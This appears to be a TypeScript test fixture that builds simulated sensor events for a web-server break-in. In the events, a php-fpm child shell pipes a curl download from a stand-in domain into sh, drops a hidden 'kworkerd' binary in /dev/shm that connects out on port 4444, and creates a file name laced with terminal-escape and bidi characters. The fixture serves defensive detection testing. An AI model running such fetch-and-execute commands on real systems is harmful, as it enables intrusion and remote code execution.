/** A break-in as a host's sensor tells it, with what else goes on beside: a web server's shell that fetches, runs and hides a program. */
import { AGENT, OTHER_AGENT } from './api.fixture.ts'

export const ATTACK = {
  sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  address: '203.0.113.66',
  domain: 'cdn.update-check.example',
  shell: 'b1c2:2210:4711',
} as const

const EPOCH = '01a20d6d-5b90-7c9b-8378-2e328fd2af15'
const BOOT = 'b1c2'

interface Planted {
  readonly agentId: string
  readonly event: Record<string, unknown>
}

const web = (time: string, event: Record<string, unknown>): Planted => ({
  agentId: AGENT,
  event: { '@timestamp': `2026-11-24T${time}Z`, host: { name: 'web-1' }, ...event },
})
const db = (time: string, event: Record<string, unknown>): Planted => ({
  agentId: OTHER_AGENT,
  event: { '@timestamp': `2026-11-24T${time}Z`, host: { name: 'db-1' }, ...event },
})

const started = { event: { category: ['process'], type: ['start'], action: 'process-started', provider: 'kernel' } }
const ended = { event: { category: ['process'], type: ['end'], action: 'process-ended', provider: 'kernel' } }
const connected = {
  event: { category: ['network'], type: ['connection', 'start'], action: 'connection-opened', provider: 'kernel' },
}
const asked = { event: { category: ['network'], type: ['protocol'], action: 'dns-question', provider: 'kernel' } }
const created = { event: { category: ['file'], type: ['creation'], action: 'file-created', provider: 'kernel' } }

const entity = (pid: number, start: number) => `${BOOT}:${pid}:${start}`
const who = (pid: number, start: number, name: string) => ({ pid, entity_id: entity(pid, start), name })
const NGINX = who(812, 100, 'nginx')
const PHP = who(905, 120, 'php-fpm')
const SHELL = who(2210, 4711, 'sh')
const CURL = who(2211, 4712, 'curl')
const DROPPED = who(2214, 4715, 'kworkerd')

const process = (
  own: ReturnType<typeof who>,
  parent: ReturnType<typeof who>,
  executable: string,
  commandLine: string,
  more = {},
) => ({
  process: { ...own, executable, command_line: commandLine, user: { id: '33', name: 'www-data' }, parent, ...more },
})

const PLANTED: readonly Planted[] = [
  web('08:00:00.100', {
    ...started,
    ...process(NGINX, who(1, 1, 'systemd'), '/usr/sbin/nginx', 'nginx: master process /usr/sbin/nginx -g daemon on;', {
      user: { id: '0', name: 'root' },
    }),
  }),
  web('08:00:01.000', { ...started, ...process(PHP, NGINX, '/usr/sbin/php-fpm8.2', 'php-fpm: pool www') }),
  web('11:40:00.120', {
    ...started,
    ...process(SHELL, PHP, '/usr/bin/dash', `sh -c 'curl -fsS http://${ATTACK.domain}/k.sh | sh'`),
  }),
  web('11:40:00.180', {
    ...started,
    ...process(CURL, SHELL, '/usr/bin/curl', `curl -fsS http://${ATTACK.domain}/k.sh`, {
      hash: { sha256: '5e'.repeat(32) },
    }),
  }),
  web('11:40:00.190', {
    ...asked,
    process: CURL,
    dns: { question: { name: ATTACK.domain, type: 'A' }, resolved_ip: [ATTACK.address] },
  }),
  web('11:40:00.240', {
    ...connected,
    process: { ...CURL, user: { name: 'www-data' } },
    network: { transport: 'tcp', direction: 'egress' },
    source: { ip: '192.0.2.10', port: 51_812 },
    destination: { ip: ATTACK.address, port: 80, domain: ATTACK.domain, bytes: 3_120 },
  }),
  web('11:40:00.410', { ...ended, process: { ...CURL, exit_code: 0 } }),
  web('11:40:00.420', {
    ...created,
    process: { ...SHELL, user: { name: 'www-data' } },
    file: {
      path: '/dev/shm/.x/kworkerd',
      name: 'kworkerd',
      size: 412_672,
      mode: '0755',
      hash: { sha256: ATTACK.sha256 },
    },
  }),
  web('11:40:00.600', {
    ...started,
    ...process(
      DROPPED,
      SHELL,
      '/dev/shm/.x/kworkerd',
      `./kworkerd --quiet --pool ${ATTACK.address}:4444 ${'A'.repeat(600)}`,
      { hash: { sha256: ATTACK.sha256 } },
    ),
  }),
  web('11:40:01.000', {
    ...connected,
    process: { ...DROPPED, user: { name: 'www-data' } },
    network: { transport: 'tcp', direction: 'egress' },
    source: { ip: '192.0.2.10', port: 51_813 },
    destination: { ip: ATTACK.address, port: 4_444 },
  }),
  web('11:40:02.000', {
    ...created,
    process: { ...DROPPED, user: { name: 'www-data' } },
    file: { path: '/var/tmp/cron\u001b[2Jjob\u202e', name: 'cron' },
  }),
  web('11:40:03.000', { ...ended, process: { ...DROPPED, exit_code: 137 } }),
  web('11:45:00.000', {
    ...started,
    process: {
      ...who(2211, 9_000, 'apt-get'),
      executable: '/usr/bin/apt-get',
      command_line: 'apt-get -qq update',
      user: { id: '0', name: 'root' },
      parent: who(1, 1, 'systemd'),
    },
  }),
  web('11:46:00.000', {
    event: { category: ['authentication'], type: ['start'], action: 'login', outcome: 'success' },
    user: { id: '1000', name: 'alice' },
    source: { ip: '198.51.100.23', port: 50_022 },
    message: 'Accepted publickey for alice from 198.51.100.23 port 50022',
  }),
  db('09:12:00.000', {
    ...started,
    process: {
      pid: 300,
      entity_id: 'd0:300:1',
      name: 'psql',
      executable: '/usr/bin/psql',
      command_line: 'psql -c "select 1"',
      user: { name: 'postgres' },
      parent: { pid: 1, entity_id: 'd0:1:1', name: 'systemd' },
    },
  }),
  db('11:52:00.000', {
    ...created,
    process: { pid: 301, entity_id: 'd0:301:1', name: 'rsync' },
    file: { path: '/srv/share/kworkerd', name: 'kworkerd', hash: { sha256: ATTACK.sha256 } },
  }),
]

export function attackEvents() {
  return PLANTED.map(({ agentId, event }, at) => ({
    agentId,
    epoch: EPOCH,
    class: (event['event'] as { category: string[] }).category[0] ?? 'process',
    seq: at + 1,
    ingestedAt: '2026-11-24T11:59:00.000Z',
    json: Buffer.from(JSON.stringify(event)),
  }))
}
